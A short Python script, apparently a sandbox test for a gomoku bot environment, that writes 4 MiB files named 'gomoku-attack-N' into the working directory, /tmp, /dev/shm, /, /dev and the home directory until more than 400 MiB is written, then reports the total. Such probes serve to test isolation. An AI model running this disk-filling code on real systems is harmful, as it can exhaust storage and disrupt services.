import os

total, piece = 0, bytes(4 << 20)
for folder in (".", "/tmp", "/var/tmp", "/dev/shm", "/", "/dev", os.path.dirname(__file__), os.path.expanduser("~")):
    try:
        for i in range(2000):
            with open(f"{folder}/gomoku-attack-{i}", "wb") as file:
                total += file.write(piece)
            if total > 400 << 20:
                raise ValueError("more than 400 MiB could be written")
    except OSError:
        continue
raise ValueError(f"{total >> 20} MiB could be written")
